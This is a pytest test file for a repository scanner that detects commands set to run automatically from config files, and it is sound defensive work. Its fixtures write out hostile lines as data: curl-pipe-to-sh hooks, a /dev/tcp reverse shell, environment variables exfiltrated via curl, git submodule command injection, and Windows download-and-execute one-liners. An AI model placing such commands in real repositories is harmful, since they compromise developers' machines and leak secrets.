"""Commands that a repository makes tools run by themselves, and those that it does not."""

from __future__ import annotations

import json

import pytest

from assay.core.evidence import Outcome
from assay.core.finding import Severity
from assay.inspections.sourcecode import SourceCode
from tests.support.scan import scan

FETCH = "curl http://198.51.100.1/x | sh"
TASK = {"label": "x", "command": "curl", "args": ["http://198.51.100.1/x", "|", "sh"]}


def worst(path: str, text: str) -> tuple[Severity, str]:
    evidence = scan(SourceCode, {path: text.encode()})
    return max(((one.severity, one.rule) for one in evidence.findings), default=(Severity.NOTE, ""))


@pytest.mark.parametrize(
    ("path", "text", "severity"),
    [
        ("package.json", json.dumps({"scripts": {"postinstall": FETCH}}), "medium"),
        ("a/package.json", json.dumps({"scripts": {"prepare": "node build.js"}}), "low"),
        (".vscode/tasks.json", json.dumps({"tasks": [TASK | {"runOptions": {"runOn": "folderOpen"}}]}), "medium"),
        (".devcontainer/devcontainer.json", f'{{"initializeCommand": ["sh", "-c", "{FETCH}"], // x\n}}', "medium"),
        (".devcontainer.json", json.dumps({"postCreateCommand": {"a": "pip install x"}}), "low"),
        (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/x\n', "high"),
        (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://example.org/x\n\tupdate = !touch x\n', "high"),
        (".pre-commit-config.yaml", f"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: {FETCH}\n", "medium"),
        (".github/workflows/x.yml", "x:\n  steps:\n  - run: |\n      bash -i >& /dev/tcp/198.51.100.1/1\n", "critical"),
        (".github/workflows/x.yml", f"jobs:\n  x:\n    steps:\n    - run: {FETCH}\n", "low"),
        (".gitlab-ci.yml", "x:\n  script:\n  - echo $(env | base64 | curl -d @- http://198.51.100.1)\n", "high"),
        (".gitpod.yml", f"tasks:\n  - init: {FETCH}\n", "medium"),
        ("lefthook.yml", f"pre-commit:\n  commands:\n    x:\n      run: {FETCH}\n", "medium"),
        (".circleci/config.yml", f"jobs:\n  b:\n    steps:\n      - run: {FETCH}\n", "low"),
        ("azure-pipelines.yml", f"steps:\n- script: {FETCH}\n", "low"),
        (".gdbinit", "set pagination off\nshell touch x\n", "medium"),
        (".lldbinit", "command script import x.py\n", "medium"),
        (".pdbrc", "!import os; os.system('touch x')\n", "medium"),
        (".exrc", "!touch x\n", "medium"),
        (".vimrc", "set nu\nau BufRead * call system('touch x')\n", "medium"),
        (".dir-locals.el", '((nil . ((eval . (shell-command "touch x")))))\n', "medium"),
        (".Rprofile", "options(digits = 4)\nsystem('touch x')\n", "medium"),
        ("Open me.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'touch x'\n", "medium"),
        ("package.json", "{", "low"),  # nobody knows what npm makes of it
    ],
)  # fmt: skip
def test_what_runs_by_itself(path: str, text: str, severity: str) -> None:
    assert worst(path, text) == (Severity[severity.upper()], "automatic-command")


@pytest.mark.parametrize("before", ["    - run: 'true'\n" * 600, "    - run: |\n" + "        true\n" * 900])
def test_nothing_before_a_command_hides_it(before: str) -> None:
    shell = "bash -i >& /dev/tcp/198.51.100.1/1"
    last = f"        {shell}\n" if before.endswith("  true\n") else f"    - run: {shell}\n"
    text = f"jobs:\n  x:\n    steps:\n{before}{last}"
    assert worst(".github/workflows/x.yml", text) == (Severity.CRITICAL, "automatic-command")
    evidence = scan(SourceCode, {".github/workflows/x.yml": text.encode()})
    assert len(evidence.findings) <= 501


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", json.dumps({"scripts": {"test": FETCH}, "dependencies": {"install": FETCH}})),
        (".vscode/tasks.json", json.dumps({"tasks": [TASK]})),
        (".vscode/settings.json", json.dumps({"tasks": [TASK | {"runOptions": {"runOn": "folderOpen"}}]})),
        (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://example.org/x\n\tupdate = rebase\n'),
        (".pre-commit-config.yaml", "repos:\n- repo: https://example.org/x\n  hooks:\n  - id: x\n"),
        (".gdbinit", "set pagination off\n"),
        (".pdbrc", "# import\nn\n"),
        (".vimrc", "set nu\nsyntax on\n"),
        (".dir-locals.el", "((python-mode . ((fill-column . 100))))\n"),
        (".Rprofile", "options(digits = 4) # system('x')\n"),
        ("link.desktop", "[Desktop Entry]\nType=Link\nURL=https://example.org\n"),
        ("workflows/x.yml", f"jobs:\n  x:\n    steps:\n    - run: {FETCH}\n"),
        ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n[project]\ndependencies = ["numpy==1.0"]\n'),
    ],
)
def test_what_does_not(path: str, text: str) -> None:
    evidence = scan(SourceCode, {path: text.encode()})
    assert [one for one in evidence.findings if one.severity > Severity.NOTE] == []
    assert evidence.outcome in {Outcome.CLEAN, Outcome.NOT_APPLICABLE}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("conda.yaml", "dependencies:\n- python\n- pip:\n  - git+http://198.51.100.1/x.git\n"),
        ("environment.yml", "dependencies:\n- pip:\n  - x @ http://198.51.100.1/x.tar.gz\n"),
        ("pyproject.toml", '[build-system]\nrequires = ["x @ http://198.51.100.1/x.tar.gz"]\n'),
        ("pyproject.toml", '[project]\ndependencies = ["x @ http://198.51.100.1/x.tar.gz"]\n'),
    ],
)
def test_requirements_in_other_files(path: str, text: str) -> None:
    assert worst(path, text) == (Severity.MEDIUM, "requirement-direct")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("run.bat", '@echo off\r\npowershell -c "iwr http://198.51.100.1/x -o x.exe; .\\x.exe"\r\n'),
        ("run.ps1", "Invoke-WebRequest http://198.51.100.1/x -OutFile x.exe; Start-Process x.exe\n"),
        ("run.cmd", "cmd /c certutil -urlcache -f http://198.51.100.1/x x.exe && x.exe\n"),
        ("run.vbs", 'CreateObject("WScript.Shell").Run "cmd /c calc"\n'),
    ],
)
def test_scripts_of_windows(path: str, text: str) -> None:
    assert worst(path, text) == (Severity.MEDIUM, "script-command")
